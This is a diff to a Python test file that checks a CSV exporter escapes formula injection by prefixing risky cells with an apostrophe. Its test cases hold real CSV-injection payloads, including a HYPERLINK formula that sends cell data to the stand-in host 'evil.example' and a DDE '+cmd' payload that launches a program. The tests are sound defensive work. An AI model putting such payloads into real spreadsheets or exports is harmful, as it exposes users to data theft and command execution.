@@ -194,7 +194,7 @@ def test_catalog_csv_has_the_two_header_rows_and_the_channel_checklist(files):
             "√",
             "√",
             "",
-            "=SUM(A1)",
+            "'=SUM(A1)",  # an apostrophe first: never run as a formula
         ]
     ]
 
@@ -436,3 +436,22 @@ def test_the_same_input_gives_the_same_bytes(tmp_path):
     first = _files(root)
     time.sleep(1.1)  # XLSX archives and core properties would otherwise carry the clock
     assert _files(root) == first
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("https://evil.example/?q="&A2,"点击查看原文")', "'=HYPERLINK"),
+        ("+cmd|' /C calc'!A0", "'+cmd"),
+        ("@SUM(1+1)", "'@SUM"),
+        ("-2+3", "'-2+3"),
+        ("\tx", "'\tx"),
+        ("＝１＋１", "'＝１＋１"),
+        ("-3.50", "-3.50"),
+        ("关于印发《办法》的通知", "关于印发"),
+    ],
+)
+def test_csv_cells_never_run_as_formulas(cell, written):
+    from gongkai.render.data.csvfile import inert
+
+    assert inert(cell).startswith(written)
